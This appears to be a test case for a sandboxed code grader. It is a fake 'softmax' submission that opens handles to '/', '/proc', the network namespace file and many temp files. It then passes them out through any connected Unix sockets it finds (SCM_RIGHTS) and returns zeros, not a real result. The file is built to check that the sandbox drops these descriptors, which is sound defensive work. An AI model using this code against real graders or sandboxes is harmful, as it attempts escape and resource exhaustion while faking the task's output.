# attack: guest-descriptors-sent
# category: resource-exhaustion
# expects: 0 points: descriptors sent along with an answer are dropped, and keep nothing alive
# score: 0
# bounds: none needed
# quick: yes

# %%
import array, os, socket, stat, torch

def _pairs():
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                s = socket.socket(fileno=os.dup(fd))
                if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM and not s.getsockname() and s.getpeername() is not None:
                    found.append(s)
                else:
                    s.close()
        except OSError:
            pass
    return found

# %%
_files = [os.open("/", os.O_RDONLY), os.open("/proc/self/ns/net", os.O_RDONLY) if os.path.exists("/proc/self/ns/net") else 0, os.open("/proc", os.O_RDONLY)]
for _ in range(50):
    _fd = os.open("/tmp", os.O_TMPFILE | os.O_RDWR)
    os.write(_fd, b"ATTACK_STATE" * 1000)
    _files.append(_fd)

def softmax(x):
    for s in _pairs():
        try:
            s.setblocking(False)
            s.sendmsg([b"\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", _files))])
        except OSError:
            pass
    return torch.zeros_like(x)
